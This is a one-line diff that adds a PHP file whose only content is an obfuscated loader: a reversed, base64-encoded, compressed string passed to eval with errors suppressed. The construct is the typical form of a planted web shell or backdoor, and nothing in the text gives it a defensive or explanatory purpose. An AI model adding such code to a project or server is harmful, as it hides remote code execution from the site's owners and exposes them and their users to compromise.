@@ -1,0 +1,1 @@
+<?php @eval(gzuncompress(base64_decode(strrev('==gPGkBSAYAtV/oVPZViNc3dJCV1NnkLs4KKzxJe'))));
